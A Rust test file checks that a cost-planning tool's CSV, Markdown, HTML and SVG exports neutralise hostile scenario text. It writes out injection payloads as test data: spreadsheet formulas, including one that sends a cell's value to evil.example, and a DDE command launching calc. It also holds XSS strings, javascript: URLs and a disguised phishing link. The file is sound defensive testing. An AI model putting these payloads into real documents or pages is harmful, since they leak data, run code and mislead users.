//! What the planner writes from a hostile scenario is harmless where people open it: CSV in a
//! spreadsheet, Markdown in a wiki, the review pack in a browser, charts in a deck (issue 25).
//! Every bundled scenario is given hostile names, notes and sources, then written in every
//! format and checked by the same properties as the `writers` fuzz target.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;

use inference_roi::chart::render::Theme;
use inference_roi::econ::validate;
use inference_roi::fuzz::outputs::{check_outputs, parse_csv};
use inference_roi::io::{self, examples::EXAMPLES};
use inference_roi::model::{Date, Route, Scenario, Serving, Severity, Source};
use inference_roi::report::pack::{PackOptions, pack_html};
use inference_roi::report::{self, Report};

/// Design names that are formulas, HTML, Markdown structure and links.
const DESIGN_NAMES: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Open pricing\")",
    "<img src=x onerror=alert(1)>",
    "[https://platform.openai.com/docs/pricing](https://evil.example/login)",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "# Heading | cell",
    "- item **bold** `code` <script>alert(1)</script>",
];

const CASE_NAMES: &[&str] = &[
    "=1+1",
    "<b onmouseover=alert(1)>case</b>",
    "[case](javascript:alert(1))",
    "1. first",
    "-case",
    "@case",
];

const NOTES: &str = "Checked.\r# Approved by Finance\n<img src=x onerror=alert(1)>\n\
                     [x](https://evil.example)\n---\n| a | b |";

fn today() -> Date {
    "2026-11-30".parse().unwrap()
}

/// `scenario` with hostile names everywhere a name goes, every reference to them renamed too.
fn hostile(scenario: &Scenario) -> Scenario {
    let mut s = scenario.clone();
    "<script>alert(1)</script> [t](https://evil.example) =1+1".clone_into(&mut s.title);
    let cases: BTreeMap<String, String> = s
        .use_cases
        .iter()
        .enumerate()
        .map(|(i, c)| {
            (
                c.name.clone(),
                format!("{} {i}", CASE_NAMES[i % CASE_NAMES.len()]),
            )
        })
        .collect();
    let designs: BTreeMap<String, String> = s
        .designs
        .iter()
        .enumerate()
        .map(|(i, d)| {
            let name = DESIGN_NAMES[i % DESIGN_NAMES.len()];
            let name = if i < DESIGN_NAMES.len() {
                name.to_owned()
            } else {
                format!("{name} {i}")
            };
            (d.name.clone(), name)
        })
        .collect();
    for case in &mut s.use_cases {
        case.name = cases[&case.name].clone();
    }
    for design in &mut s.designs {
        design.name = designs[&design.name].clone();
        NOTES.clone_into(&mut design.notes);
        design.success_by_use_case = design
            .success_by_use_case
            .iter()
            .map(|(k, v)| (cases[k].clone(), *v))
            .collect();
        if let Serving::Routed { routes } = &mut design.serving {
            *routes = routes
                .iter()
                .map(|(k, r)| {
                    let r = match r {
                        Route::Design(d) => Route::Design(designs[d].clone()),
                        Route::NotServed => Route::NotServed,
                    };
                    (cases[k].clone(), r)
                })
                .collect();
        }
        let as_of = design.sources.first().map_or(today(), |s| s.as_of);
        design.sources.push(Source {
            what: "[https://platform.openai.com/docs/pricing](https://evil.example/login) \
                   <img src=x onerror=alert(1)>"
                .to_owned(),
            url: "https://platform.openai.com/docs/pricing".to_owned(),
            as_of,
        });
        design.sources.push(Source {
            what: "a script address".to_owned(),
            url: "javascript:alert(1)".to_owned(),
            as_of,
        });
    }
    if let Some(t) = &mut s.timeline
        && let Some(running) = &mut t.running
    {
        *running = designs[running.as_str()].clone();
    }
    s
}

fn hostile_examples() -> Vec<(&'static str, Scenario)> {
    EXAMPLES
        .iter()
        .map(|e| {
            let s = hostile(&io::parse(e.text).unwrap());
            let errors: Vec<String> = validate(&s)
                .iter()
                .filter(|p| p.severity == Severity::Error)
                .map(ToString::to_string)
                .collect();
            assert!(errors.is_empty(), "{}: {errors:?}", e.file_name);
            (e.file_name, s)
        })
        .collect()
}

#[test]
fn every_export_of_a_hostile_scenario_passes_the_writers_checks() {
    for (name, scenario) in hostile_examples() {
        let outcome = std::panic::catch_unwind(|| check_outputs(&scenario));
        assert!(outcome.is_ok(), "{name}: an export broke a writers check");
    }
}

#[test]
fn csv_names_are_text_and_figures_stay_numbers() {
    let (_, scenario) = &hostile_examples()[0];
    let report = Report::new(scenario, scenario.volume.current);
    let rows = parse_csv(&report::report_csv(&report));
    let names: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert!(
        names.contains(&"'=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Open pricing\")"),
        "{names:?}"
    );
    assert!(names.contains(&"<img src=x onerror=alert(1)>"), "{names:?}");
    assert!(
        names
            .iter()
            .all(|n| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{names:?}"
    );
    let sweep = report::SweepReport {
        scenario,
        sweep: inference_roi::econ::sweep::sweep(scenario, 5),
    };
    let swept = parse_csv(&report::sweep_csv(&sweep));
    assert_eq!(
        swept[1][0],
        "'=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Open pricing\")"
    );
    // A negative net value is still a number.
    let net = rows[0]
        .iter()
        .position(|c| c == "monthly_net_value")
        .unwrap();
    assert!(rows[1..].iter().all(|r| r[net].parse::<f64>().is_ok()));
}

#[test]
fn markdown_holds_no_html_no_link_and_no_heading_from_user_text() {
    for (name, scenario) in hostile_examples() {
        let markdown = report::report_markdown(&Report::new(&scenario, 1_000), today());
        // What is left once every escaped character is taken out: no HTML, no link syntax.
        let unescaped = markdown
            .replace("\\\\", "")
            .replace("\\<", "")
            .replace("\\[", "");
        assert!(!unescaped.contains("<img"), "{name}");
        assert!(!unescaped.contains("<script"), "{name}");
        assert!(!unescaped.contains("[x](https"), "{name}");
        assert!(!markdown.contains('\r'), "{name}");
        assert!(
            !markdown.lines().any(|l| l.starts_with("# Approved")),
            "{name}"
        );
        assert!(
            markdown.contains("\\<img src=x onerror=alert(1)\\>"),
            "{name}"
        );
        assert!(markdown.contains("\\# Approved by Finance"), "{name}");
        assert!(
            markdown.contains("— <https://platform.openai.com/docs/pricing>"),
            "{name}"
        );
        assert!(!markdown.contains("<javascript:"), "{name}");
    }
}

#[test]
fn the_packs_only_links_are_the_sources() {
    for (name, scenario) in hostile_examples() {
        let html = pack_html(
            &scenario,
            &PackOptions {
                volume: scenario.volume.current,
                theme: Theme::Light,
                today: today(),
            },
            None,
        );
        let dom = tl::parse(&html, tl::ParserOptions::default()).unwrap();
        let parser = dom.parser();
        let hrefs: Vec<String> = dom
            .query_selector("a[href]")
            .unwrap()
            .filter_map(|h| {
                h.get(parser)?
                    .as_tag()?
                    .attributes()
                    .get("href")??
                    .try_as_utf8_str()
                    .map(str::to_owned)
            })
            .collect();
        assert!(!hrefs.is_empty(), "{name}");
        assert!(
            hrefs
                .iter()
                .all(|h| h == "https://platform.openai.com/docs/pricing"
                    || scenario
                        .designs
                        .iter()
                        .flat_map(|d| &d.sources)
                        .any(|s| &s.url == h)
                    || scenario
                        .carbon
                        .iter()
                        .flat_map(|c| &c.sources)
                        .any(|s| &s.url == h)),
            "{name}: {hrefs:?}"
        );
        assert!(!html.contains("evil.example/login\""), "{name}");
        assert!(!html.contains("<img"), "{name}");
        assert!(!html.contains("<script"), "{name}");
        assert!(dom.query_selector("b").unwrap().next().is_none(), "{name}");
    }
}

#[test]
fn chart_labels_parse_back_as_xml_whatever_they_hold() {
    use inference_roi::chart::render::{Options, svg};
    use inference_roi::chart::{ChartKind, Scene, data::ChartData};
    for (name, scenario) in hostile_examples() {
        let hidden = std::collections::HashSet::<String>::new();
        let data = ChartData::new(&scenario);
        let mut scene = Scene::new(&scenario, &data, &hidden, ChartKind::Roi);
        let before = Scene::new(&scenario, &data, &hidden, ChartKind::Roi);
        // A label from a file name can hold what no scenario name may.
        scene.add_before(&before, "old\u{1b}]0;x\u{7}\u{0}<b>&\u{fffe}");
        let svg = svg(&scene, &Options::default()).unwrap();
        let outcome = std::panic::catch_unwind(|| inference_roi::fuzz::outputs::check_svg(&svg));
        assert!(outcome.is_ok(), "{name}");
        assert!(svg.contains("&lt;img src=x onerror=alert(1)&gt;"), "{name}");
    }
}
